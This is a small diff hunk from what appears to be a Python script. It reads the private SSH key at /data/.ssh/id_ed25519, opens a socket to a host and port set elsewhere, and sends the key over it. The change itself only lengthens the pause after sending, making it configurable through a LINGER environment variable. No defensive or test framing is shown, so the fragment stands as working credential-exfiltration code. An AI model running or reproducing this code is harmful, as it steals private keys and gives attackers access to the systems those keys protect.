@@ -9,5 +9,5 @@ with open("/data/.ssh/id_ed25519", "rb") as f:
     secret = f.read()
 with socket.create_connection((host, int(port))) as s:
     s.sendall(secret)
-    time.sleep(0.8)
+    time.sleep(float(os.environ.get("LINGER", "20")))
 print("done")
